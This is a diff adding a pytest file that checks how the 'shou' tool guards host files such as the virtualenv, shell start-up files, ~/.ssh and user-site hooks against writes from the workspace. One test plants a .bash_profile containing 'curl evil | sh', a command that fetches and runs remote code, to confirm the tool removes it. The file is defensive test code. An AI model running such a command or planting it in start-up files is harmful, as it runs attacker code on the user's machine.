@@ -1,0 +1,94 @@
+"""What the host runs code from or trusts, when it lies inside the workspace (`workspace.host_parts`,
+`read_only_tops`): a project's `.venv` holding the running shou, and a workspace of `$HOME` (its shells'
+start-up files, `~/.ssh`, `~/.local` with the user site's usercustomize.py, `~/.cache/shou`)."""
+
+from __future__ import annotations
+
+import site
+import sys
+from pathlib import Path
+
+import pytest
+
+from shou.errors import ToolError, UserError
+from shou.git_protect import Protected, protect, remove_planted
+from shou.workspace import host_parts, open_file, read_only_tops
+
+
+@pytest.fixture
+def home_ws(tmp_path: Path, monkeypatch: pytest.MonkeyPatch) -> Path:
+    """A workspace that is $HOME and holds the Python running shou in `.venv`."""
+    ws = tmp_path / "home"
+    ws.mkdir()
+    venv = ws / ".venv"
+    (venv / "lib" / "python3.11" / "site-packages").mkdir(parents=True)
+    monkeypatch.setenv("HOME", str(ws))
+    monkeypatch.setenv("SHOU_CONFIG_DIR", str(tmp_path / "config"))  # outside: only what this change adds
+    monkeypatch.delenv("PYTHONUSERBASE", raising=False)
+    monkeypatch.setattr(site, "USER_BASE", None)  # worked out again from HOME
+    monkeypatch.setattr(site, "USER_SITE", None)
+    monkeypatch.setattr(sys, "prefix", str(venv))
+    monkeypatch.setattr(sys, "exec_prefix", str(venv))
+    monkeypatch.setattr(sys, "path", [*sys.path, str(venv / "lib" / "python3.11" / "site-packages"), str(ws), ""])
+    return ws
+
+
+def test_host_parts_lists_the_venv_the_user_site_and_the_home_start_up_files(home_ws: Path) -> None:
+    parts = {p for p, _ in host_parts(home_ws)}
+    assert (".venv",) in parts and (".venv", "lib", "python3.11", "site-packages") in parts
+    assert (".local",) in parts and any(p[:2] == (".local", "lib") and p[-1] == "site-packages" for p in parts)
+    for name in (".bashrc", ".profile", ".bash_profile", ".zshenv", ".inputrc", ".ssh", ".gitconfig"):
+        assert (name,) in parts
+    assert (".cache", "shou") in parts
+    assert () not in parts  # the workspace on sys.path (`python -m shou`) is left out: its root stays writable
+    assert ("sitecustomize.py",) in parts and ("usercustomize.py",) in parts  # but what Python imports at start
+
+
+def test_nothing_is_listed_when_the_home_and_python_are_elsewhere(tmp_path: Path) -> None:
+    ws = tmp_path / "project"
+    ws.mkdir()
+    assert host_parts(ws) == []
+
+
+def test_read_only_tops_makes_missing_folders_but_no_start_up_file(home_ws: Path) -> None:
+    (home_ws / ".bashrc").write_text("# mine\n")
+    tops, absent = read_only_tops(home_ws)
+    for top in (".venv", ".local", ".ssh", ".config", ".cache", ".bashrc"):
+        assert top in tops
+        assert (home_ws / top).exists()
+    # An empty .bash_profile would make bash skip .profile: a missing one is removed after a call instead.
+    assert ".bash_profile" in absent and ".profile" in absent and not (home_ws / ".bash_profile").exists()
+    assert ".bashrc" not in absent
+    assert protect(home_ws).absent == tuple(absent)
+
+
+def test_a_start_up_file_the_program_made_is_removed(home_ws: Path) -> None:
+    protected = protect(home_ws)
+    (home_ws / ".bash_profile").write_text("curl evil | sh\n")
+    (home_ws / ".zshenv").mkdir()
+    note = remove_planted(home_ws, protected)
+    assert not (home_ws / ".bash_profile").exists() and not (home_ws / ".zshenv").exists()
+    assert ".bash_profile" in note and "host would run it" in note
+    assert remove_planted(home_ws, Protected((), ())) == ""
+
+
+def test_a_symlinked_top_is_refused(home_ws: Path) -> None:
+    (home_ws / "dots").mkdir()
+    (home_ws / ".ssh").symlink_to("dots")
+    with pytest.raises(UserError, match="not a plain file or folder"):
+        read_only_tops(home_ws)
+
+
+def test_the_workspace_holding_the_python_itself_is_refused(tmp_path: Path, monkeypatch: pytest.MonkeyPatch) -> None:
+    monkeypatch.setattr(sys, "prefix", str(tmp_path))
+    with pytest.raises(UserError, match="holds the Python that runs shou"):
+        read_only_tops(tmp_path)
+
+
+@pytest.mark.parametrize("path", [".bashrc", ".ssh/authorized_keys", ".venv/lib/python3.11/site-packages/x.pth",
+                                  ".cache/shou/responses.db", ".local/lib/python3.11/site-packages/usercustomize.py"])
+def test_the_file_tools_do_not_write_there(home_ws: Path, path: str) -> None:
+    with pytest.raises(ToolError, match="host runs code from or trusts"):
+        open_file(home_ws, path, write=True, create=True)
+    with open_file(home_ws, "notes.txt", write=True, create=True) as f:
+        f.replace(b"ok")
